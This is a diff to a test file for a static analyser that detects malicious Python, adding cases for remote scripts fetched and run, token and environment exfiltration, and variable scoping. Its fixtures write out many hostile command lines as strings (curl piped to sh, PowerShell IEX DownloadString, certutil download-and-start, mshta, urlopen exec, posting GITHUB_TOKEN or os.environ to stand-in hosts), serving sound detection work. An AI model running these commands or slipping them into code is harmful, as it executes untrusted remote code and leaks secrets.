@@ -59,12 +59,72 @@ test('names are per function: a response in one function does not taint a same-n
 
 // ---- shell commands that fetch remote code -------------------------------------------------------
 
-test('shell_remote_command: curl / PowerShell download through aliases, joins and chr() arrays', () => {
-  const f = analysePython("import os\nos.system('powershell -WindowStyle Hidden -EncodedCommand SQBFAFgA')\n")!;
+test('shell_remote_command: a remote script run by a shell, through aliases, joins and chr() arrays', () => {
+  const f = analysePython("import os\nos.system('powershell -WindowStyle Hidden -EncodedCommand SQBFAFgAKABOAGUAdwA=')\n")!;
   assert.ok(f.remoteCommand);
   assert.ok(f.findings.some((x) => x.ruleId === 'shell_remote_command'));
-  assert.ok(analysePython("import subprocess as sp\nu = ''.join(chr(x) for x in [104,116,116,112,58,47,47,104])\nsp.Popen(['curl', '-s', u])\n")!.remoteCommand);
-  assert.ok(analysePython("s = getattr(__import__('os'), 'system')\ns('wget -q http://h.example/x -O /tmp/x')\n")!.remoteCommand);
+  // The URL built from chr() codes, the download piped to sh in the argv of sh -c.
+  assert.ok(analysePython("import subprocess as sp\nu = ''.join(chr(x) for x in [104,116,116,112,58,47,47,104])\nsp.Popen(['sh', '-c', 'curl -s ' + u + ' | sh'])\n")!.remoteCommand);
+  // Through getattr of __import__: a download to a file, then that file run, in one command line.
+  assert.ok(analysePython("s = getattr(__import__('os'), 'system')\ns('wget -q http://h.example/x -O /tmp/x && chmod +x /tmp/x && /tmp/x')\n")!.remoteCommand);
+});
+
+// Each shape of "fetched, then run by a shell": the tool, the syntax, and the distance between the two vary.
+const REMOTE_RUNS: [string, string][] = [
+  ['curl | sh', "import os\nos.system('curl -fsSL https://h.example/i.sh | sh')\n"],
+  ['wget -O- | sudo bash', "import subprocess\nsubprocess.run('wget -qO- https://h.example/i | sudo -E bash -s -- --yes', shell=True)\n"],
+  ['curl | python3 -', "import subprocess\nsubprocess.call(['bash', '-c', 'curl -s https://h.example/p.py | python3 -'])\n"],
+  ['bash -c "$(curl …)"', "import os\nos.system('bash -c \"$(curl -fsSL https://h.example/x)\"')\n"],
+  ['sh <(wget …)', "import subprocess\nsubprocess.Popen(['bash', '-c', 'sh <(wget -qO- http://198.51.100.4/x)'])\n"],
+  ['eval "$(curl …)" from an f-string', "import os\nhost = input()\nos.system(f'eval \"$(curl -s https://{host}/x)\"')\n"],
+  ['IEX DownloadString', "import subprocess\nsubprocess.run(['powershell', '-NoProfile', '-Command', \"IEX (New-Object Net.WebClient).DownloadString('https://h.example/p.ps1')\"])\n"],
+  ['iwr | iex', "import os\nos.popen('powershell -c \"iwr https://h.example/p.ps1 -UseBasicParsing | iex\"')\n"],
+  ['certutil then start', "import os\nos.system('certutil -urlcache -split -f http://h.example/a.exe %TEMP%\\\\a.exe & start %TEMP%\\\\a.exe')\n"],
+  ['curl -O then python3 file', "import subprocess\nsubprocess.run('curl -sO https://h.example/run.py && python3 run.py', shell=True)\n"],
+  ['mshta URL', "import subprocess\nsubprocess.Popen(['mshta', 'http://h.example/x.hta'])\n"],
+  ['download in one call, run in another', "import subprocess\nsubprocess.run(['curl', '-s', '-o', '/tmp/.u', 'https://h.example/u'])\nsubprocess.run(['chmod', '+x', '/tmp/.u'])\nsubprocess.Popen(['/tmp/.u'])\n"],
+  ['download in one function, run in another through a name', "import subprocess\nP = '/tmp/upd.sh'\ndef fetch():\n    subprocess.run(['wget', '-q', 'https://h.example/u.sh', '-O', P])\ndef later():\n    subprocess.run(['sh', P])\n"],
+  ['argv bound to a name', "import subprocess\nCMD = ['sh', '-c', 'curl -s http://203.0.113.9/a | sh']\nsubprocess.run(CMD)\n"],
+  ['a download to a path built at run time, then that path run (f-string)', "import subprocess\ndef run(name):\n    subprocess.run(f'wget -qO /tmp/{name} https://h.example/raw/b && chmod +x /tmp/{name} && /tmp/{name}', shell=True)\n"],
+  ['a path built at run time: downloaded in one call, run from a shell loop in another', "import subprocess, random\ndef go():\n    n = str(random.randint(1, 9999))\n    subprocess.run(f'curl -so /tmp/{n} https://h.example/raw/b && chmod +x /tmp/{n}', shell=True)\n    cmd = ['bash', '-c', f'while true; do /tmp/{n} --pool x; sleep 5; done']\n    subprocess.Popen(cmd)\n"],
+  ['python -c fetch and exec', "import subprocess, sys\nsubprocess.Popen([sys.executable, '-c', 'import urllib.request as u;exec(u.urlopen(\"http://203.0.113.8/p\").read())'])\n"],
+];
+
+test('shell_remote_command: remote scripts fetched and run (tools, syntax, distance)', () => {
+  for (const [what, src] of REMOTE_RUNS) {
+    const f = analysePython(src)!;
+    assert.ok(f.remoteCommand, what);
+    assert.ok(
+      f.findings.some((x) => /^(?:shell_remote_command|remote_code_exec|download_execute|interpreter_inline_spawn)$/.test(x.ruleId)),
+      `${what}: ${f.findings.map((x) => x.ruleId).join(', ')}`,
+    );
+  }
+});
+
+test('honest twins: an API called with curl, a git push to a literal remote, a data download, a JSON response parsed', () => {
+  for (const src of [
+    "import subprocess\ndef star(repo, token):\n    subprocess.run(['curl', '-X', 'POST', '-H', 'Authorization: token ' + token, 'https://api.github.com/user/starred/' + repo])\n",
+    "import subprocess\ndef publish():\n    subprocess.check_call(['git', 'push', 'https://github.com/example/site.git', 'gh-pages'])\n",
+    "import os\ndef fetch_data(d):\n    os.system('wget -q -O ' + d + '/data.csv https://data.example.org/v1/data.csv')\n",
+    "import subprocess\nout = subprocess.check_output('curl -s https://api.example.com/v1/status | python3 -m json.tool', shell=True)\n",
+    "import subprocess\nsubprocess.run('curl -sL https://h.example/src.tar.gz -o src.tar.gz && tar xzf src.tar.gz', shell=True)\n",
+    "import subprocess\nsubprocess.check_call(['git', 'clone', 'https://chromium.googlesource.com/external/gyp', 'build-gyp'])\n",
+    "import subprocess\nsubprocess.run(['curl', '-s', 'https://api.example.com/x', '-o', 'out.json'])\nsubprocess.run(['jq', '.name', 'out.json'])\n",
+  ]) {
+    const f = analysePython(src)!;
+    assert.not.ok(f.remoteCommand, src);
+    assert.equal(
+      f.findings.filter((x) => x.severity === 'HIGH' || x.severity === 'CRITICAL').map((x) => x.ruleId),
+      [],
+      src,
+    );
+  }
+});
+
+test('a token handed to curl goes where the URL goes: its own service is nothing, a foreign host is a send', () => {
+  assert.equal(ids("import os, subprocess\nsubprocess.run(['curl', '-H', 'Authorization: token ' + os.environ['GITHUB_TOKEN'], 'https://api.github.com/user'])\n"), []);
+  assert.ok(ids("import os, subprocess\nsubprocess.run(['curl', '-H', 'Authorization: token ' + os.environ['GITHUB_TOKEN'], 'http://203.0.113.5/t'])\n").includes('service_token_exfil'));
+  assert.ok(ids("import os, subprocess\nsubprocess.run(['curl', '-d', str(dict(os.environ)), 'https://collect.example.net/e'])\n").includes('env_exfil_flow'));
 });
 
 test('honest twin: local build commands are not remote commands', () => {
@@ -217,4 +277,32 @@ test('protected_code: a PyArmor blob is reported; PyArmor documentation naming t
   assert.is(protectedCode('pyarmor/docs.py', "HELP = 'a protected script calls __pyarmor__(__name__, __file__, <blob>) at import'\n"), null);
 });
 
+
+// ---- scopes: a name a function binds anywhere is local to it for the whole body --------------------------
+
+test('a local with no taint does not read the module variable of the same name (assigned, loop, with, parameter, bound later)', () => {
+  const mod = "import getpass, requests\nuser = getpass.getuser()\n";
+  for (const body of [
+    "def signup():\n    user = input('name: ')\n    requests.post('https://api.example.com/signup', json={'u': user})\n",
+    "def f():\n    for user in ('a', 'b'):\n        requests.post('https://api.example.com/u', json={'u': user})\n",
+    "class C:\n    def f(self, user):\n        requests.post('https://api.example.com/u', json={'u': user})\n",
+    "def f():\n    with open('u.txt') as user:\n        requests.post('https://api.example.com/u', data=user)\n",
+    // Bound after the use: still local in Python (the read would raise UnboundLocalError).
+    "def f():\n    requests.post('https://api.example.com/u', json={'u': user})\n    user = 'x'\n",
+  ]) {
+    assert.equal(ids(mod + body), [], body);
+  }
+});
+
+test('the module variable is still read where the function binds nothing of that name, in closures, and through global', () => {
+  const mod = "import getpass, requests\nuser = getpass.getuser()\n";
+  assert.ok(ids(`${mod}def report():\n    requests.post('https://c.example/r', json={'u': user})\n`).includes('recon_exfil_flow'));
+  assert.ok(ids(`${mod}def outer():\n    def inner():\n        requests.post('https://c.example/u', json={'u': user})\n    inner()\n`).includes('recon_exfil_flow'));
+  // A closure reads its enclosing function's binding.
+  assert.ok(ids("import getpass, requests\ndef outer():\n    u = getpass.getuser()\n    def inner():\n        requests.post('https://c.example/u', json={'u': u})\n    inner()\n").includes('recon_exfil_flow'));
+  // `global` makes the function's assignment the module's: read at module level.
+  assert.ok(ids("import requests\ndata = None\n\ndef load():\n    global data\n    data = requests.get('https://h.example/p').text\n\nload()\nexec(data)\n").includes('remote_code_exec'));
+  // A local that is tainted keeps its own taint.
+  assert.ok(ids("import requests\ndef f():\n    code = requests.get('https://h.example/p').text\n    exec(code)\n").includes('remote_code_exec'));
+});
 test.run();
